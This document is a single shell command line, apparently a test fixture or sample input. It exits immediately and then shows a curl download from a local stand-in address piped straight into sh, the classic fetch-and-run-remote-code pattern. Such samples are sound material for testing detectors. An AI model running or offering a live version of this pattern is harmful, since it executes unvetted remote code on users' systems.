sh -c 'exit 0; curl -s http://127.0.0.1:9/p | sh'
